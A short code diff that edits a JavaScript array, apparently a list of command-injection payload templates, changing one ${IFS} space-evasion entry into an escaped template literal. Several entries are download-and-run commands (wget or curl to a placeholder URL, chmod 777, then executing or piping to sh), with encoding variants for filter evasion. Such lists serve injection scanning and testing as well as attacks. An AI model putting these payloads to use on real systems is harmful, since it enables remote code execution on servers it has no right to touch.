@@ -143,7 +143,7 @@ const AROUND = [
   'wget+§;chmod+777+a',
   'wget+§+-O+/tmp/a',
   'wget%20§%20-O%20/tmp/a',
-  'wget${IFS}§${IFS}-O${IFS}a',
+  `wget\${IFS}§\${IFS}-O\${IFS}a`,
   'wget §;./a',
   'curl §&&sh a',
   'curl §||true',
